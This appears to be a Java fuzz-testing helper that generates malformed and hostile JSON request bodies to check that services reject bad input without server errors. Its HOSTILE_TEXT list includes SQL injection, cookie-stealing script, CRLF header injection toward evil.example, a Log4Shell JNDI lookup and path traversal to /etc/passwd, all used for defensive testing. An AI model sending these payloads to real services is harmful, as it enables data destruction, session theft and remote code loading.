package dev.followup.system;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Request bodies a careless or hostile client sends, generated from one valid body with a seeded
 * random generator: the same seed gives the same bodies, so a failure can be replayed.
 */
final class BadBodies {

  /** What a service must do with a body. */
  enum Expect {
    /** Not a usable request whatever the service: a 4xx problem, nothing stored. */
    REJECTED,
    /** Too large for the service: 413. */
    TOO_LARGE,
    /** Possibly acceptable text in an otherwise valid body: anything but a 5xx. */
    NO_SERVER_ERROR
  }

  /** One generated body. */
  record Case(String kind, Expect expect, byte[] body) {

    /** A short printable excerpt for failure messages. */
    String excerpt() {
      String text = new String(body, StandardCharsets.UTF_8);
      String shown = text.length() > 160 ? text.substring(0, 160) + "…" : text;
      return kind + " (" + body.length + " bytes): " + shown.replaceAll("\\p{Cntrl}", "·");
    }
  }

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

  /**
   * NUL (U+0000), which PostgreSQL cannot store in text or jsonb: every service refuses it in any
   * string of a JSON body (400), before it reaches the database.
   */
  static final String NUL_TEXT = "nul\u0000byte";

  /**
   * Strings that break careless code: JSON escapes of NUL and of lone surrogates, right-to-left
   * overrides, emoji sequences, combining marks, SQL, script, CRLF header injection, format and
   * template syntax, lookup syntax, path traversal.
   */
  static final List<String> HOSTILE_TEXT =
      List.of(
          "lone \ud800 high surrogate",
          "lone \udc00 low surrogate",
          "\u202eright-to-left override\u202c",
          "\u200f\u05e9\u05dc\u05d5\u05dd mixed \u0627\u0644\u0633\u0644\u0627\u0645",
          "\ud83d\udc69\ud83c\udffd\u200d\ud83d\udcbb\ud83c\udff3\ufe0f\u200d\ud83c\udf08 emoji",
          "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319a\u0307lgo\u0336",
          "\ufeffbyte order mark",
          "\uffff\ufffe non-characters",
          "'; DROP TABLE candidate; --",
          "' OR '1'='1",
          "\" OR \"\"=\"",
          "1); DELETE FROM follow_up_step WHERE (1=1",
          "<script>alert(document.cookie)</script>",
          "\"><img src=x onerror=alert(1)>",
          "a\r\nSet-Cookie: stolen=1",
          "a\r\nBcc: attacker@evil.example\r\n\r\nbody",
          "%0d%0aLocation:%20http://evil.example",
          "${jndi:ldap://evil.example/a}",
          "{inject:config} {#for i in 1..9999999}{i}{/for}",
          "%s%s%s%n%x",
          "../../../../etc/passwd",
          "\\u0000 escaped text",
          NUL_TEXT,
          "\u0000");

  private final Random random;

  BadBodies(long seed) {
    this.random = new Random(seed);
  }

  /**
   * {@code count} bodies that no service can accept, from {@code sample} (a valid body, or null
   * when none is known: then only its shape-independent faults).
   */
  List<Case> rejected(String sample, int count, boolean emptyAllowed) {
    List<Case> cases = new ArrayList<>();
    JsonNode tree = sample == null ? null : parse(sample);
    List<Pointer> leaves = tree == null ? List.of() : pointers(tree);
    for (int i = 0; i < count; i++) {
      int pick = random.nextInt(tree == null || leaves.isEmpty() ? 4 : 7);
      switch (pick) {
        case 0 -> cases.add(garbage());
        case 1 -> cases.add(wrongTopLevel(emptyAllowed));
        case 2 -> cases.add(invalidUtf8(sample));
        case 3 -> cases.add(brokenSyntax(sample == null ? "{\"a\": [1, 2]}" : sample));
        case 4, 5 -> cases.add(wrongType(tree, leaves));
        default -> cases.add(truncated(sample));
      }
    }
    return cases;
  }

  /** A body above {@code limitBytes}: a valid-looking body with one enormous string. */
  Case tooLarge(String sample, int limitBytes) {
    String filler = "x".repeat(limitBytes + 4096);
    JsonNode tree = sample == null ? null : parse(sample);
    if (tree instanceof ObjectNode object) {
      ObjectNode copy = object.deepCopy();
      copy.put("padding", filler);
      return new Case("huge", Expect.TOO_LARGE, bytes(copy));
    }
    return new Case(
        "huge",
        Expect.TOO_LARGE,
        ("{\"padding\":\"" + filler + "\"}").getBytes(StandardCharsets.UTF_8));
  }

  /**
   * {@code count} valid-shaped bodies with one string field set to hostile text: they may be stored
   * or refused, never fail the server; and one with a NUL in a string, which must be refused.
   */
  List<Case> hostileText(String sample, int count) {
    List<Case> cases = new ArrayList<>();
    if (sample == null) {
      return cases;
    }
    JsonNode tree = parse(sample);
    List<Pointer> strings = pointers(tree).stream().filter(p -> p.node().isTextual()).toList();
    if (strings.isEmpty()) {
      return cases;
    }
    for (int i = 0; i < count; i++) {
      Pointer target = strings.get(random.nextInt(strings.size()));
      String text = HOSTILE_TEXT.get(random.nextInt(HOSTILE_TEXT.size()));
      JsonNode copy = tree.deepCopy();
      replace(copy, target, NODES.textNode(text));
      // Non-ASCII escaped as JSON escapes (a lone surrogate can only travel so), or sent raw.
      boolean escaped =
          random.nextBoolean() || text.chars().anyMatch(c -> Character.isSurrogate((char) c));
      cases.add(
          new Case(
              "hostile text at " + target.path() + (escaped ? " (escaped)" : " (raw UTF-8)"),
              Expect.NO_SERVER_ERROR,
              escaped ? escapedBytes(copy) : bytes(copy)));
    }
    // And one NUL in a string picked at random, which must be refused, not merely survived.
    Pointer target = strings.get(random.nextInt(strings.size()));
    JsonNode copy = tree.deepCopy();
    replace(copy, target, NODES.textNode(NUL_TEXT));
    cases.add(new Case("NUL at " + target.path(), Expect.REJECTED, bytes(copy)));
    return cases;
  }

  private Case garbage() {
    byte[] bytes = new byte[1 + random.nextInt(200)];
    String alphabet = "{}[]\":,\\ \t\nabc123-.eE+nulltruefalse\u00e9\u20ac";
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < bytes.length; i++) {
      text.append(alphabet.charAt(random.nextInt(alphabet.length())));
    }
    // Starts with a character that cannot begin a JSON value, so it never parses by chance.
    return new Case(
        "random characters", Expect.REJECTED, ("}" + text).getBytes(StandardCharsets.UTF_8));
  }

  private Case wrongTopLevel(boolean emptyAllowed) {
    List<String> values =
        new ArrayList<>(
            List.of(
                "[]",
                "[{}]",
                "\"text\"",
                "42",
                "-1.5e308",
                "true",
                "[".repeat(5000) + "]".repeat(5000)));
    if (!emptyAllowed) {
      values.add("null");
    }
    String value = values.get(random.nextInt(values.size()));
    return new Case("top-level " + value, Expect.REJECTED, value.getBytes(StandardCharsets.UTF_8));
  }

  /**
   * Bytes that are not UTF-8 inside a string the service must read (the sample's first text value),
   * or in a bare body when there is no sample: not JSON (RFC 8259 requires UTF-8).
   */
  private Case invalidUtf8(String sample) {
    byte[][] invalid = {
      {(byte) 0xC3, (byte) 0x28}, // a lead byte without its continuation
      {(byte) 0xFF}, // never in UTF-8
      {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, // an encoded surrogate
      {(byte) 0xC0, (byte) 0xAF}, // overlong "/", which a lenient reader takes as "/"
      {(byte) 0xE0, (byte) 0x80, (byte) 0xAF}, // overlong "/" in three bytes
      {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, // above U+10FFFF
      {(byte) 0x80} // a lone continuation byte
    };
    byte[] bad = invalid[random.nextInt(invalid.length)];
    String text = sample == null ? "{\"name\": \"\u0001\"}" : sample;
    int open = text.indexOf(":\"");
    if (open < 0) {
      text = "{\"name\": \"\u0001\"}";
      open = text.indexOf(":\"");
    }
    byte[] prefix = text.substring(0, open + 2).getBytes(StandardCharsets.UTF_8);
    byte[] suffix = text.substring(open + 2).getBytes(StandardCharsets.UTF_8);
    byte[] body = new byte[prefix.length + bad.length + suffix.length];
    System.arraycopy(prefix, 0, body, 0, prefix.length);
    System.arraycopy(bad, 0, body, prefix.length, bad.length);
    System.arraycopy(suffix, 0, body, prefix.length + bad.length, suffix.length);
    return new Case("invalid UTF-8", Expect.REJECTED, body);
  }

  private Case brokenSyntax(String sample) {
    List<String> breakages =
        List.of(
            sample.replaceFirst("\"", "'"),
            sample.replaceFirst(":", ""),
            sample.replaceFirst("\\{", "{,"),
            "{\"a\": NaN" + sample.substring(1),
            "{\"deep\":"
                + "{\"a\":".repeat(3000)
                + "1"
                + "}".repeat(3000)
                + ","
                + sample.substring(1));
    int which = random.nextInt(breakages.size());
    return new Case(
        "broken syntax #" + which,
        Expect.REJECTED,
        breakages.get(which).getBytes(StandardCharsets.UTF_8));
  }

  private Case truncated(String sample) {
    int cut = 1 + random.nextInt(Math.max(1, sample.length() - 2));
    return new Case(
        "truncated at " + cut,
        Expect.REJECTED,
        sample.substring(0, cut).getBytes(StandardCharsets.UTF_8));
  }

  /**
   * One value of the body replaced by one of a type no lenient reader coerces: an object or array
   * for a scalar, a scalar for an object or array.
   */
  private Case wrongType(JsonNode tree, List<Pointer> pointers) {
    Pointer target = pointers.get(random.nextInt(pointers.size()));
    JsonNode replacement;
    if (target.node().isContainerNode()) {
      replacement = random.nextBoolean() ? NODES.textNode("not an object") : NODES.numberNode(7);
    } else {
      replacement =
          random.nextBoolean()
              ? NODES.objectNode().put("unexpected", true)
              : NODES.arrayNode().add(1).add("two");
    }
    JsonNode copy = tree.deepCopy();
    replace(copy, target, replacement);
    return new Case(
        "wrong type at " + target.path() + ": " + replacement, Expect.REJECTED, bytes(copy));
  }

  /** Where a value sits in the body: its parent and its name or index. */
  private record Pointer(String path, List<Object> steps, JsonNode node) {}

  private static List<Pointer> pointers(JsonNode tree) {
    List<Pointer> found = new ArrayList<>();
    collect(tree, "", new ArrayList<>(), found);
    return found;
  }

  private static void collect(JsonNode node, String path, List<Object> steps, List<Pointer> found) {
    if (node.isObject()) {
      Iterator<Map.Entry<String, JsonNode>> fields = node.fields();
      while (fields.hasNext()) {
        Map.Entry<String, JsonNode> field = fields.next();
        List<Object> next = new ArrayList<>(steps);
        next.add(field.getKey());
        String childPath = path + "/" + field.getKey();
        found.add(new Pointer(childPath, next, field.getValue()));
        collect(field.getValue(), childPath, next, found);
      }
    } else if (node.isArray()) {
      for (int i = 0; i < node.size(); i++) {
        List<Object> next = new ArrayList<>(steps);
        next.add(i);
        String childPath = path + "/" + i;
        found.add(new Pointer(childPath, next, node.get(i)));
        collect(node.get(i), childPath, next, found);
      }
    }
  }

  private static void replace(JsonNode root, Pointer pointer, JsonNode value) {
    JsonNode parent = root;
    List<Object> steps = pointer.steps();
    for (int i = 0; i < steps.size() - 1; i++) {
      Object step = steps.get(i);
      parent = step instanceof Integer index ? parent.get(index) : parent.get((String) step);
    }
    Object last = steps.get(steps.size() - 1);
    if (last instanceof Integer index) {
      ((ArrayNode) parent).set(index, value);
    } else {
      ((ObjectNode) parent).set((String) last, value);
    }
  }

  private static JsonNode parse(String json) {
    try {
      return JSON.readTree(json);
    } catch (java.io.IOException e) {
      throw new IllegalArgumentException("Sample body is not JSON: " + json, e);
    }
  }

  private static byte[] escapedBytes(JsonNode node) {
    try {
      return JSON.writer()
          .with(com.fasterxml.jackson.core.json.JsonWriteFeature.ESCAPE_NON_ASCII)
          .writeValueAsBytes(node);
    } catch (java.io.IOException e) {
      throw new IllegalStateException(e);
    }
  }

  private static byte[] bytes(JsonNode node) {
    try {
      return JSON.writeValueAsBytes(node);
    } catch (java.io.IOException e) {
      throw new IllegalStateException(e);
    }
  }
}
